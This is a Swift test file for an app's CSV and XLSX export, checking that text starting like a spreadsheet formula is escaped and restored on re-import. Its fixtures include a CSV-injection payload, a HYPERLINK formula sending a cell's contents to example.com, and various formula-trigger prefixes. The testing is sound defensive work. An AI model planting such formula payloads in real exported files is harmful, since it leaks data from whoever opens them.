import Foundation
import Testing
import ZIPFoundation

@testable import WancunKit

/// Free text in the CSV files wancun writes is never run as a formula; codes keep their
/// `="digits"` form and numbers stay numbers.
@Suite struct FormulaTextTests {
    static let hyperlink = #"=HYPERLINK("http://example.com/?id="&H2,"王")"#

    @Test(arguments: [
        (hyperlink, "'" + hyperlink), ("+1+1", "'+1+1"), ("-1+1", "'-1+1"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"), ("＝1+1", "'＝1+1"), ("＋1", "'＋1"), ("－1", "'－1"), ("＠x", "'＠x"), ("'=x", "''=x"), ("''@x", "'''@x"),
        ("-村东服务站", "'-村东服务站"), ("-", "'-"),
        // Plain numbers, plain text and a lone quote stay as they are.
        ("-150.00", "-150.00"), ("+3", "+3"), ("12.5", "12.5"), ("聚金村", "聚金村"), ("a=b", "a=b"), ("'", "'"), ("'x", "'x"), ("", ""),
    ])
    func textIsNeutralisedAndRestored(text: String, written: String) {
        #expect(FormulaText.neutralise(text) == written)
        #expect(FormulaText.restore(written) == text)
    }

    @Test func theSheetCSVNeutralisesTextOnlyAndKeepsCodesAndNumbers() throws {
        let path = temporaryDirectory().appendingPathComponent("t.csv").path
        try TableFile.write(
            Worksheet(
                name: "s", title: "=标题", header: ["=A1", "金额"],
                rows: [[.text(Self.hyperlink), .money(Fen(-15000)), .code("330424198503150023"), .code("=1+1"), .integer(-3), .text("-150.00")]]),
            to: path)
        let text = String(decoding: try Data(contentsOf: URL(fileURLWithPath: path)), as: UTF8.self)
        #expect(
            text == "\u{FEFF}'=标题\r\n'=A1,金额\r\n"
                + #""'=HYPERLINK(""http://example.com/?id=""&H2,""王"")",-150.00,"=""330424198503150023""",'=1+1,-3,-150.00"# + "\r\n")
    }

    @Test func listsAsCSVNeutraliseTextAndKeepCodesAndNumbers() {
        let table = Table(
            columns: [
                .init("a", Message(zh: "a", en: "a")), .init("b", Message(zh: "b", en: "b")), .init("c", Message(zh: "c", en: "c")),
                .init("d", Message(zh: "d", en: "d")), .init("e", Message(zh: "e", en: "e")),
            ],
            rows: [[.text("@x"), .money(Fen(-15000)), .code("330424101201001"), .residentID("11010519491231002X"), .decimal("-1.5")]])
        let csv = String(decoding: TableRenderer(language: .zh, reveal: true).csvData(table), as: UTF8.self)
        #expect(csv.hasSuffix("\r\n'@x,-150.00,\"=\"\"330424101201001\"\"\",\"=\"\"11010519491231002X\"\"\",-1.5\r\n"))
    }

    @Test func anXLSXNeverHoldsAFormula() throws {
        let data = try XLSXWriter.data([Worksheet(name: "s", header: ["=A1"], rows: [[.text(Self.hyperlink), .code("=1+1"), .money(Fen(-15000))]])])
        let archive = try Archive(data: data, accessMode: .read)
        var parts: [String: String] = [:]
        for entry in archive {
            var bytes = Data()
            _ = try archive.extract(entry) { bytes.append($0) }
            parts[entry.path] = String(decoding: bytes, as: UTF8.self)
        }
        let sheet = try #require(parts["xl/worksheets/sheet1.xml"])
        #expect(!sheet.contains("<f>") && !sheet.contains("<f ") && !sheet.contains("t=\"str\""))
        #expect(try #require(parts["xl/sharedStrings.xml"]).contains("=HYPERLINK(&quot;http://example.com/?id=&quot;&amp;H2,&quot;王&quot;)"))
        let path = writeTemporaryFile("f.xlsx", data)
        #expect(try readAll(path)[1] == [Self.hyperlink, "=1+1", "-150"])
    }

    @Test func anExportedPointsCSVImportsBackUnchanged() throws {
        let db = try PointSheetTests.database()
        let rows = [
            PointSheetTests.good[0].merging(["name": "-村东服务站", "address": Self.hyperlink, "certificate_no": "-2024-001"]) { $1 },
            ["village_code": "330424101202", "name": "@董司村服务点", "address": "+村委会东侧100米"],
            // A quote before text that starts like a formula is Excel's mark for text, in any file.
            ["village_code": "330424101203", "name": "'=村服务点", "address": "\t=1+1"],
        ]
        let source = writeTemporaryFile(
            "in.csv",
            ([PointSheetTests.header] + rows.map(PointSheetTests.row)).map { $0.map(CSVWriter.quoted).joined(separator: ",") }
                .joined(separator: "\r\n") + "\r\n")
        #expect(try db.importPoints(from: source, context: testContext).rows.map(\.action) == [.created, .created, .created])
        let out = temporaryDirectory().appendingPathComponent("out.csv").path
        #expect(try db.exportPoints(to: out, reveal: true, context: testContext) == 3)
        let text = try String(contentsOfFile: out, encoding: .utf8)
        #expect(text.contains("'-村东服务站") && text.contains(#""'=HYPERLINK("#) && text.contains("'-2024-001"))
        #expect(text.contains("'@董司村服务点,'+村委会东侧100米") && text.contains("'=村服务点,'=1+1"))
        #expect(text.contains(#""=""330424101201001""""#))
        let audit = try db.auditEntries(AuditFilter()).count
        let again = try db.importPoints(from: out, context: testContext)
        #expect(again.rows.map(\.action) == [.unchanged, .unchanged, .unchanged])
        #expect(try db.auditEntries(AuditFilter()).count == audit)
        let detail = try db.pointDetail("330424101201001").point
        #expect(detail.name == "-村东服务站" && detail.address == Self.hyperlink)
        let third = try db.pointDetail("330424101203001").point
        #expect(third.name == "=村服务点" && third.address == "=1+1")
    }
}
